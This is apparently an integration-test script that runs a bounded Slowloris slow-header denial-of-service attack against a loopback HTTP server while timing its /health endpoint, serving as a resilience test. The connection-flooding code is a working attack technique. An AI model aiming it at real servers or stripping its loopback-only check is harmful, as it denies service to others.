"""A slow-client attack on an HTTP server, bounded in count and time (issue 18): ``sockets``
connections, each sending a request line and then one header line every ``line_every_s``
seconds, never finishing its headers; a connection the server closes is opened again. While
it runs, ``GET /health`` is timed from a separate client every ``probe_every_s`` seconds.

Run it by hand against a loopback stack only::

    python -m tests.integration.slowloris http://127.0.0.1:8080 --sockets 3000 --seconds 30
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from urllib.parse import urlsplit


@dataclass
class AttackReport:
    opened: int = 0  # connections the attacker opened
    refused: int = 0  # connection attempts that failed or timed out
    closed_by_server: int = 0  # connections the server closed while they trickled
    peak_held: int = 0  # most connections held open at once
    probes: list[tuple[float, float | None, int | None]] = field(default_factory=list)  # (t, seconds or None, status)

    @property
    def worst_probe_s(self) -> float:
        return max((d if d is not None else float("inf")) for _, d, _ in self.probes) if self.probes else float("inf")

    def summary(self) -> dict:
        answered = [d for _, d, s in self.probes if d is not None]
        return {"opened": self.opened, "refused": self.refused, "closed_by_server": self.closed_by_server,
                "peak_held": self.peak_held, "probes": len(self.probes), "probes_answered": len(answered),
                "worst_probe_s": None if len(answered) < len(self.probes) else round(max(answered, default=0.0), 3),
                "statuses": sorted({s for _, _, s in self.probes if s is not None}),
                "slow_probes": [(round(t, 1), None if d is None else round(d, 2)) for t, d, _ in self.probes if d is None or d > 0.5]}


def _probe(host: str, port: int, path: str, timeout: float) -> tuple[float | None, int | None]:
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.settimeout(max(0.05, timeout - (time.monotonic() - start)))
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            head = s.recv(64)
        status = int(head.split(b" ", 2)[1]) if head.startswith(b"HTTP/1.1 ") else None
        return (time.monotonic() - start if status is not None else None), status
    except (OSError, ValueError, IndexError):
        return None, None


def attack(url: str, *, sockets: int = 3000, seconds: float = 30.0, line_every_s: float = 10.0, probe_every_s: float = 0.5,
           probe_timeout_s: float = 5.0, open_per_s: float = 1000.0, source: str | None = "127.0.0.2") -> AttackReport:
    """Run the attack for ``seconds`` (at most ``sockets`` connections at once, opened at up
    to ``open_per_s``, from the loopback address ``source``: another client than the probe's
    127.0.0.1, as an attacker on another machine would be; None: 127.0.0.1 too) and return
    what happened. Closes every socket it opened."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise ValueError("this attack only targets loopback")
    report = AttackReport()
    stop = threading.Event()

    def prober() -> None:
        t0 = time.monotonic()
        while not stop.wait(probe_every_s):
            took, status = _probe(host, port, "/health", probe_timeout_s)
            report.probes.append((time.monotonic() - t0, took, status))

    probe_thread = threading.Thread(target=prober, name="slowloris-probe", daemon=True)
    probe_thread.start()
    sel = selectors.DefaultSelector()
    due: deque[tuple[float, socket.socket]] = deque()  # when each held socket's next header line is due, in order
    held: set[socket.socket] = set()
    start = time.monotonic()
    deadline = start + seconds

    def drop(s: socket.socket) -> None:
        held.discard(s)
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()

    try:
        while time.monotonic() < deadline:
            now = time.monotonic()
            allowed = int(open_per_s * (now - start + 0.05)) - (report.opened + report.refused)
            while len(held) < sockets and allowed > 0:
                allowed -= 1
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.settimeout(0.5)
                try:
                    if source:
                        s.bind((source, 0))
                    s.connect((host, port))
                    s.send(f"GET /health HTTP/1.1\r\nHost: {host}\r\n".encode())
                    s.setblocking(False)
                except OSError:
                    s.close()
                    report.refused += 1
                    continue
                report.opened += 1
                held.add(s)
                sel.register(s, selectors.EVENT_READ)
                due.append((now + line_every_s, s))
            report.peak_held = max(report.peak_held, len(held))
            for key, _ in sel.select(timeout=0.05):  # readable: the server answered (408/503) or closed it
                s = key.fileobj
                try:
                    s.recv(4096)
                except OSError:
                    pass
                report.closed_by_server += 1
                drop(s)
            now = time.monotonic()
            while due and due[0][0] <= now:
                _, s = due.popleft()
                if s not in held:
                    continue
                try:
                    s.send(b"X-Slow: 1\r\n")
                    due.append((now + line_every_s, s))
                except BlockingIOError:
                    due.append((now + line_every_s, s))
                except OSError:
                    report.closed_by_server += 1
                    drop(s)
    finally:
        stop.set()
        for s in list(held):
            drop(s)
        sel.close()
        probe_thread.join(probe_timeout_s + 1)
    return report


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    parser.add_argument("--sockets", type=int, default=3000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--line-every", type=float, default=10.0)
    parser.add_argument("--open-per-s", type=float, default=1000.0, help="connections opened per second at most")
    parser.add_argument("--source", default="127.0.0.2", help="the attacker's loopback address ('' for 127.0.0.1, the probe's)")
    args = parser.parse_args()
    print(json.dumps(attack(args.url, sockets=args.sockets, seconds=args.seconds, line_every_s=args.line_every,
                            source=args.source or None, open_per_s=args.open_per_s).summary()))


if __name__ == "__main__":
    main()
